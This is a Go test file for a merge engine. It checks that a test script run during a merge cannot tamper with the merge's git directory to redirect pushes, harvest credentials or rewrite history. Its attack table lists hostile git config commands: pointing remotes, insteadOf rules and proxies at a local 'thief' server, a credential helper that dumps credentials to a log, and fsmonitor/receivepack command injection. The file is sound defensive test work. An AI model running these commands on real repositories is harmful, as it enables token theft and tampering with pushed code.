//go:build all

package engine_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// Tests run as the same user may find the git directory of a merge. Whatever they write there, it changes neither what is
// pushed nor where to, and nobody else hears the token.
func TestMergeWhoseTestsWriteIntoItsGitDirectory(t *testing.T) {
	each(t, map[string]string{
		"another address":       "git config -f $d/config remote.origin.pushurl THIEF; git config -f $d/config remote.origin.url THIEF",
		"a rewritten address":   "git config -f $d/config url.THIEF.insteadOf ORIGIN",
		"a proxy":               "git config -f $d/config http.proxy THIEF",
		"a credential helper":   "git config -f $d/config credential.helper '!f() { cat >LOG; }; f'",
		"programs":              "git config -f $d/config remote.origin.receivepack 'touch LOG'; git config -f $d/config core.fsmonitor 'touch LOG'; git config -f $d/config core.alternateRefsCommand 'touch LOG;:'",
		"a replaced commit":     "mkdir -p $d/refs/replace; git rev-parse HEAD~1 >$d/refs/replace/$(git rev-parse HEAD)",
		"an end of the history": "git rev-parse HEAD >$d/shallow",
		"other refs":            "for r in $(cd $d/refs && find . -type f); do git rev-parse HEAD~1 >$d/refs/$r; done",
	}, func(t *testing.T, _ string, lines string) {
		var heard atomic.Int32
		thief := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
			heard.Add(1)
			w.Header().Set("WWW-Authenticate", "Basic realm=x")
			w.WriteHeader(http.StatusUnauthorized)
		}))
		defer thief.Close()
		log, found := filepath.Join(t.TempDir(), "log"), filepath.Join(t.TempDir(), "found")
		run := filepath.Join(t.TempDir(), "tests")
		w := newMerge(t, fmt.Sprintf("tests = [%q]", run))
		text := "#!/bin/sh\nfor d in $(cat .git/objects/info/alternates)/.. $(ls -d ../mergexo-git-*); do\necho $d >>FOUND\n" + lines + "\ndone\nexit 0\n"
		text = strings.NewReplacer("ORIGIN", w.origin, "THIEF", thief.URL, "LOG", log, "FOUND", found).Replace(text)
		require.NoError(t, os.WriteFile(run, []byte(text), 0o755))
		w.write("octo", "main", "other.txt", "meanwhile\n")
		base, tree := w.at("main"), w.bare("merge-tree", "--write-tree", "main", w.head)
		w.done(w.command("carol", "/mergexo merge"))
		dirs := contents(t, found)
		require.Contains(t, string(dirs), "mergexo-git-", "they did find it")
		assert.Zero(t, heard.Load())
		assert.NoFileExists(t, log)
		assert.Equal(t, "merged", w.badge())
		assert.Equal(t, base, w.bare("rev-parse", "main^"))
		assert.Equal(t, tree, w.bare("rev-parse", "main^{tree}"))
	})
}
